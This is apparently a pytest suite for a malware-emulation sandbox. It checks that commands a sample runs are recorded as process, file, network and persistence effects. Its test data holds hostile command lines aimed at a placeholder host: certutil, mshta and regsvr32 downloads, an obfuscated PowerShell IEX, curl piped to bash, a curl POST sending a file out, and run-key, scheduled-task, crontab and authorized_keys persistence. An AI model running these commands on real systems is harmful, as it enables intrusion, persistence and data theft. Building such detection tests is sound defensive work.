"""Commands that a sample would run: what they say, and what they imply."""

from __future__ import annotations

import base64

import pytest

from .worlds import World, asked

STARTUP = r"%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup"
DRIVE = r"HKCU:\Software\Microsoft\Windows\CurrentVersion\Run"
RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"


def encoded(script: str) -> str:
    """Return a script as PowerShell's -EncodedCommand has it."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def test_a_command_is_recorded_as_it_is(windows: World) -> None:
    windows.said("calc.exe  /x", operation="shellexecute", hidden=True, wait=False, cwd="C:\\")
    assert windows.told("process") == [("shellexecute", "calc.exe  /x")]
    assert windows.details("process") == [
        {"client": "test", "cwd": "C:\\", "hidden": "true", "wait": "false"}
    ]


def test_a_program_and_its_arguments_become_one_line(linux: World) -> None:
    linux.said("git", args=["commit", "-m", 'it "works"'])
    assert linux.told("process") == [("run", 'git commit -m "it \\"works\\""')]


def test_an_unknown_command_says_nothing_and_succeeds(windows: World) -> None:
    body = f"""
      const {{ code, stdout, error, pid }} = commands.run({asked("odd.exe")});
      return [code, stdout, error, pid > 0]
    """
    assert windows.act(body) == [0, "", "", True]


@pytest.mark.parametrize("name", ["windows", "linux"])
def test_the_caller_lets_commands_fail(name: str, request: pytest.FixtureRequest) -> None:
    world: World = request.getfixturevalue(name)
    body = f"""
      const {{ code, error }} = commands.run({asked("echo x > a.txt", shell=True)});
      return [code > 0, error]
    """
    assert world.act(body, shell="error") == [True, "EACCES"]
    assert [one.kind for one in world.effects] == ["process"]


SAID_BY_WINDOWS = {
    "whoami": "acme\\zoe",
    "hostname": "PC-1",
    "cmd /c ver": "10.0.19045",
    "cmd /c echo hello ^& bye": "hello & bye",
    "cmd /c echo %USERNAME%": "zoe",
    "ipconfig /all": "Physical Address",
    "systeminfo": "PC-1",
    "tasklist": "explorer.exe",
    'tasklist /fi "imagename eq wireshark.exe"': "No tasks are running",
    "where cmd": "cmd.exe",
    "wmic computersystem get username": "ACME\\zoe",
    "net user": "zoe",
    "cmd /c dir C:\\Windows": "explorer.exe",
    r"reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run": "OneDrive",
    "powershell $env:COMPUTERNAME": "PC-1",
    'cmd /c "whoami & hostname"': "PC-1",
    "cmd /c if exist C:\\Windows\\explorer.exe echo yes": "yes",
    "cmd /c if not exist C:\\nope echo no": "no",
    "cmd /c set a=who&& set b=ami&& cmd /v:on /c !a!!b!": "acme\\zoe",
}
SAID_BY_LINUX = {
    "whoami": "zoe\n",
    "id": "uid=1000(zoe)",
    "uname -a": "Linux pc-1 6.",
    "echo $HOME": "/home/zoe\n",
    "echo 'a;b' | cat": "a;b\n",
    "cat /etc/passwd": "zoe:x:1000",
    "ls ~/.ssh": "id_rsa",
    "bash -c 'echo aGk= | base64 -d'": "hi",
    "env": "HOME=/home/zoe",
    "printenv HOME": "/home/zoe\n",
    "which node": "/usr/bin/node\n",
    "echo $(whoami)-`hostname`": "zoe-pc-1\n",
    "X=1; echo ${X}2": "12\n",
    "echo '$HOME' \"$USER\"": "$HOME zoe\n",
    "FOO=1 nohup whoami": "zoe\n",
    "if true; then whoami; fi": "zoe\n",
    "curl -s https://api.ipify.org": "81.2.3.4",
    "ps aux": "systemd",
    "npm -v": "10.",
}
PROFILE = {"user": "zoe", "domain": "ACME", "ip": "81.2.3.4"}


@pytest.mark.parametrize(("command", "said"), SAID_BY_WINDOWS.items())
def test_windows_commands_tell_of_the_profile(windows: World, command: str, said: str) -> None:
    body = f"return commands.run({asked(command)}).stdout"
    assert said in windows.act(
        body, profile=PROFILE | {"computer": "PC-1", "os_version": "10.0.19045"}
    )


@pytest.mark.parametrize(("command", "said"), SAID_BY_LINUX.items())
def test_linux_commands_tell_of_the_profile(linux: World, command: str, said: str) -> None:
    body = f"return commands.run({asked(command, shell=True)}).stdout"
    assert said in linux.act(body, profile=PROFILE | {"computer": "pc-1"})


PERSISTENT_ON_WINDOWS = {
    rf'reg add {RUN} /v Up /t REG_SZ /d "C:\a b.exe" /f': "run key",
    'schtasks /create /tn "Up" /tr "wscript C:\\a.js" /sc minute': "scheduled task",
    'cmd /c "echo x & schtasks.exe /Create /tn Up /tr calc"': "scheduled task",
    'sc create Up binPath= "C:\\a.exe" start= auto': "service",
    "net user mallory pw /add": "account",
    rf'cmd /c copy C:\a.js "{STARTUP}\a.js"': "startup folder",
    rf"powershell -c sp -p x; Set-ItemProperty {DRIVE} -Name x -Value 'calc'": "run key",
}
PERSISTENT_ON_LINUX = {
    "(crontab -l; echo '* * * * * curl e.example') | crontab -": "crontab",
    "echo x >> ~/.bashrc": "shell profile",
    "systemctl --user enable up.service": "systemd unit",
    "sudo useradd mallory": "account",
    "cat > /etc/systemd/system/up.service <<EOF\n[Service]\nEOF\n": "systemd unit",
    "mkdir -p ~/.ssh && echo key >> ~/.ssh/authorized_keys": "authorised keys",
}


@pytest.mark.parametrize(("command", "mechanism"), PERSISTENT_ON_WINDOWS.items())
def test_a_command_that_stays_on_windows_is_persistence(
    windows: World, command: str, mechanism: str
) -> None:
    windows.said(command)
    assert [one["mechanism"] for one in windows.details("persistence")] == [mechanism]


@pytest.mark.parametrize(("command", "mechanism"), PERSISTENT_ON_LINUX.items())
def test_a_command_that_stays_on_linux_is_persistence(
    linux: World, command: str, mechanism: str
) -> None:
    linux.said(command, shell=True)
    assert [one["mechanism"] for one in linux.details("persistence")] == [mechanism]


PATH = "C:\\here\\p.exe"
URL = "http://e.example/p.exe"
FETCHED_ON_WINDOWS = {
    f"certutil -urlcache -split -f {URL} p.exe": PATH,
    f"bitsadmin /transfer j /download /priority high {URL} p.exe": PATH,
    f"curl -o p.exe {URL}": PATH,
    f"powershell -w hidden (New-Object Net.WebClient).DownloadFile('{URL}','p.exe')": PATH,
    f"powershell -nop -ep bypass iwr {URL} -OutFile p.exe; p.exe": PATH,
    f"cmd /c power^shell.exe -e {encoded(f'iwr {URL} -OutFile p.exe')}": PATH,
    f'wmic process call create "certutil -urlcache -f {URL} p.exe"': PATH,
    f"mshta {URL}": None,
    f"regsvr32 /s /n /u /i:{URL} scrobj.dll": None,
    f"powershell IEX(New-Object Net.WebClient).('Down'+'loadString').Invoke('{URL}')": None,
}


@pytest.mark.parametrize(("command", "path"), FETCHED_ON_WINDOWS.items())
def test_what_a_command_fetches_is_a_request_and_a_file(
    windows: World, command: str, path: str | None
) -> None:
    windows.act(f"commands.run({asked(command)})", profile={"script_folder": "C:\\here"})
    assert windows.told("network") == [("GET", URL)]
    assert "via" in windows.details("network")[0]
    assert windows.told("file") == ([] if path is None else [("write", path)])


def test_what_a_pipe_runs_is_kept_as_a_script(linux: World) -> None:
    linux.said("curl -fsSL https://e.example/x.sh | bash", shell=True)
    assert linux.told("network") == [("GET", "https://e.example/x.sh")]
    assert linux.kept("script") == [b"#!/bin/sh\nexit 0\n"]


def test_what_curl_sends_is_read_and_kept(linux: World) -> None:
    linux.said("curl -X POST -H 'X-A: b' -d @/etc/hostname https://e.example/", shell=True)
    assert linux.told("file") == [("read", "/etc/hostname")]
    assert linux.details("network")[0]["header: X-A"] == "b"
    assert len(linux.kept("request")) == 1


def test_an_encoded_script_is_kept_as_it_reads(windows: World) -> None:
    windows.said(f"powershell -nop -enc {encoded('Start-Process calc')}")
    assert windows.kept("decoded") == [b"Start-Process calc"]


def test_code_on_a_command_line_is_kept(linux: World) -> None:
    linux.said("node -e 'require(\"fs\")'", shell=True)
    assert linux.kept("script") == [b'require("fs")']


def test_a_redirection_writes_a_file(windows: World) -> None:
    windows.said('cmd /c echo one> C:\\a.txt & echo two >>"C:\\a.txt"& type C:\\a.txt')
    assert windows.told("file") == [
        ("write", "C:\\a.txt"),
        ("append", "C:\\a.txt"),
        ("read", "C:\\a.txt"),
    ]
    assert windows.kept("file") == [b"one\r\n", b"two\r\n"]


def test_a_batch_file_that_was_written_is_run(windows: World) -> None:
    body = """
      files.write("C:\\\\a.bat", "@echo off\\r\\nreg add HKCU\\\\A /v x /d y\\r\\n");
      commands.run({ client: "test", command: "C:\\\\a.bat" });
    """
    windows.act(body)
    assert ("start_dropped", "C:\\a.bat") in windows.told("process")
    assert windows.told("registry") == [("write", "HKEY_CURRENT_USER\\A\\x")]


def test_a_program_that_was_written_in_pieces_is_kept_whole(linux: World) -> None:
    body = """
      for (const piece of ["a", "b", "c"]) files.append("/tmp/x", piece);
      commands.run({ client: "test", command: "chmod +x /tmp/x && nohup /tmp/x &", shell: true });
    """
    linux.act(body)
    assert ("start_dropped", "/tmp/x") in linux.told("process")
    assert linux.kept("file") == [b"a", b"b", b"c", b"abc"]


def test_a_script_that_was_written_is_kept_when_it_is_run(windows: World) -> None:
    body = """
      files.write("C:\\\\a.vbs", "MsgBox 1");
      commands.run({ client: "test", command: "wscript.exe //B C:\\\\a.vbs" });
    """
    windows.act(body)
    assert windows.told("dynamic_code") == [("run_file", "C:\\a.vbs")]


def test_shells_inside_shells_end(windows: World) -> None:
    windows.said("cmd /c " * 5000 + "calc")
    assert len(windows.effects) == 1


def test_a_line_without_end_is_taken_apart_to_a_bound(windows: World) -> None:
    windows.said("cmd /c " + "echo x>a.txt&" * 200_000)
    assert sum(one.times for one in windows.effects if one.kind == "file") < 64


HOSTILE = [
    '"' * 60_000,
    "cmd /c " + "^" * 60_000,
    "powershell " + "-w hidden " * 6_000,
    "powershell -c " + "'a'+" * 15_000,
    "reg add " + '\\"' * 30_000,
    "wmic " + "a " * 30_000 + "get",
    "if " + "not " * 15_000,
    "echo" + " " * 60_000 + "x",
    "powershell " + "set-itemproperty hkcu:\\a -name b " * 1_700,
    "powershell " + "register-scheduledtask " * 2_700,
    "bash -c '" + "<<A\n" * 15_000 + "'",
]


@pytest.mark.parametrize("command", HOSTILE, ids=range(len(HOSTILE)))
def test_no_line_keeps_the_parser_busy(windows: World, command: str) -> None:
    windows.act(f"for (let i = 0; i < 3; i++) commands.run({asked('cmd /c ' + command)})")
    assert windows.told("process")


def test_many_commands_are_recorded_and_cheap(windows: World) -> None:
    body = "for (let i = 0; i < 20000; i++) commands.run({ command: 'cmd /c whoami' }); return 1"
    assert windows.act(body) == 1
    assert windows.effects[0].times == 20_000


@pytest.mark.parametrize(
    "line", ["curl -fsSL http://a.example/x | sh", "curl -sSL http://a.example/x | sh"]
)
def test_a_page_instead_of_a_script_does_nothing(linux: World, line: str) -> None:
    linux.act(f"return stage.commands.run({asked(line, shell=True)}).code", http="not_found")
    assert linux.told("file") == []


def test_a_download_that_is_refused_leaves_no_file(linux: World) -> None:
    line = asked("curl -f -o /tmp/x http://a.example/x", shell=True)
    assert linux.act(f"return stage.commands.run({line}).code", http="not_found") == 22
    assert linux.told("file") == []
